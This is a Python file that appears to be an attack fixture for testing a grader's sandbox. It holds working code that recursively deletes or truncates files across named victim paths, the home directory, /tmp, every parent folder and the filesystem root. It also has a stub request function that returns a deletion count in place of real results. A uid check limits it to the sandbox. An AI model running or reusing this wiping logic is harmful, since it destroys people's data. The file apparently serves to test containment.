# ruff: noqa
"""Attack: delete everything in reach, then return nonsense."""

import os
import shutil
import socket
import time

VICTIM = "@@VICTIM@@"
CLASS_DIR = "@@CLASS_DIR@@"
CANARIES = "@@CANARIES@@".split("|")
DELETED = []


def wipe(top, budget):
    deadline = time.monotonic() + budget
    for folder, dirs, files in os.walk(top, topdown=False):
        for name in files:
            path = os.path.join(folder, name)
            try:
                os.chmod(path, 0o666)
            except OSError:
                pass
            try:
                os.unlink(path)
                DELETED.append(path)
            except OSError:
                try:  # cannot unlink: empty it instead
                    with open(path, "w"):
                        DELETED.append(f"truncated {path}")
                except OSError:
                    pass
        for name in dirs:
            try:
                os.rmdir(os.path.join(folder, name))
            except OSError:
                pass
        if time.monotonic() > deadline:
            return


# A safety catch for the project's own test, not a limit of the attack: run only inside the
# grader's sandbox (a run uid of 200000 or more), never on a machine where it would really delete.
if os.getuid() < 200000:
    raise SystemExit("refusing to delete anything outside the grader's sandbox")

here = os.path.dirname(os.path.abspath(__file__))
targets = [VICTIM, CLASS_DIR, *CANARIES, *[os.path.dirname(c) for c in CANARIES]]
try:
    targets += [os.path.join(CLASS_DIR, name) for name in os.listdir(CLASS_DIR)]
except OSError:
    pass
for target in targets:  # the real paths, named outright
    wipe(target, 2.0)
    shutil.rmtree(target, ignore_errors=True)
    try:
        os.unlink(target)
    except OSError:
        pass
parents = []
folder = here
while folder != "/":
    parents.append(folder)
    folder = os.path.dirname(folder)
for top in [here, os.path.expanduser("~"), os.getcwd(), "/tmp", *parents, *targets]:
    wipe(top, 2.0)
wipe("/", 2.0)
print(f"deleted {len(DELETED)} files")


async def req(url, params=None, headers=None, response_type="json"):
    return {"deleted": len(DELETED)}
